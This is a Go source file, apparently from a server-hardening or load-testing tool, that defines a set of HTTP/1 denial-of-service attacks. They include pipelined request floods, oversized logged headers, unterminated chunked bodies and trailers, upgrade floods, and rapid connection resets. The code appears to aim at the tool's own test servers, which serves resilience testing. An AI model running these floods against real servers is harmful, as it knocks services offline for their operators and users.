// SPDX-License-Identifier: Apache-2.0

package main

import (
	"context"
	"errors"
	"fmt"
	"net"
	"strings"
)

// requestAttacks are floods of HTTP/1 requests, and requests for answers that harm.
func requestAttacks() []attack {
	one := func(name, what string, port uint16, run func(context.Context, *attacker) error) attack {
		// Some of what is sent is never read.
		return attack{Name: name, What: what, port: port, lingers: true, run: run}
	}
	return []attack{
		one("pipeline", "200 HTTP/1 connections with requests one after another, whose answers nobody reads", httpEcho,
			repeat(200, func(a *attacker) string { return a.get("") })),
		one("pipeline-deaf", "200 HTTP/1 connections with requests one after another, which nobody reads", httpDeaf,
			repeat(200, func(a *attacker) string { return a.get("") })),
		one("long-log", "64 HTTP/1 connections with requests of 16 kB that are logged, as fast as possible", httpEcho,
			repeat(64, func(a *attacker) string { return a.get("User-Agent: " + strings.Repeat("u", 16_000) + "\r\n") })),
		one("chunk-extension", "200 HTTP/1 connections with a chunk extension without an end", httpDeaf,
			after("POST / HTTP/1.1\r\nHost: own\r\nTransfer-Encoding: chunked\r\n\r\n1;", 200, func(*attacker) string { return strings.Repeat("e", 8_000) })),
		one("tiny-chunks", "200 HTTP/1 connections with a body of chunks of one byte without an end", httpDeaf,
			after("POST / HTTP/1.1\r\nHost: own\r\nTransfer-Encoding: chunked\r\n\r\n", 200, func(*attacker) string { return strings.Repeat("1\r\nb\r\n", 1_000) })),
		one("trailer", "200 HTTP/1 connections with trailers without an end", httpDeaf,
			after("POST / HTTP/1.1\r\nHost: own\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n", 200, func(*attacker) string { return "x: " + strings.Repeat("t", 8_000) + "\r\n" })),
		one("upgrade", "600 HTTP/1 connections that ask for an upgrade, and send without an end", httpDeaf,
			after("GET / HTTP/1.1\r\nHost: own\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n", 600, func(*attacker) string { return strings.Repeat("w", 16_000) })),
		one("answer-headers", "150 HTTP/1 requests for an answer with header fields without an end", httpLongHeader, downloadHTTP1(150)),
		one("answer-informational", "150 HTTP/1 requests for informational answers without an end", httpInformational, downloadHTTP1(150)),
		one("reset", "64 clients that connect, ask and reset the connection, as fast as possible", httpDeaf, resets(64)),
	}
}

// get is a request without a body, with these header fields.
func (a *attacker) get(fields string) string {
	return fmt.Sprintf("GET / HTTP/1.1\r\nHost: %s\r\n%s\r\n", a.target(), fields)
}

// repeat writes the same on several connections without an end, and reads nothing.
func repeat(connections int, text func(a *attacker) string) func(context.Context, *attacker) error {
	return after("", connections, text)
}

// after is repeat after a start of each connection.
func after(start string, connections int, text func(a *attacker) string) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		again := []byte(text(a))
		return a.each(ctx, connections, func(ctx context.Context) error {
			c, err := a.dial(ctx)
			if err != nil {
				return err
			}
			if _, err := c.Write([]byte(start)); err != nil {
				return err
			}
			for {
				a.requests.Add(1)
				if _, err := c.Write(again); err != nil {
					return err
				}
			}
		})
	}
}

// resets ends each connection by a reset.
func resets(clients int) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		return a.all(ctx, clients, func(ctx context.Context) error {
			for ctx.Err() == nil {
				if err := a.reset(ctx); err != nil {
					a.refuse(err)
				}
			}
			return ctx.Err()
		})
	}
}

func (a *attacker) reset(ctx context.Context) error {
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	c, err := a.dial(ctx)
	if err != nil {
		return err
	}
	a.requests.Add(1)
	_, err = c.Write([]byte(a.get("")))
	return errors.Join(err, c.Conn.(*net.TCPConn).SetLinger(0), c.Close())
}
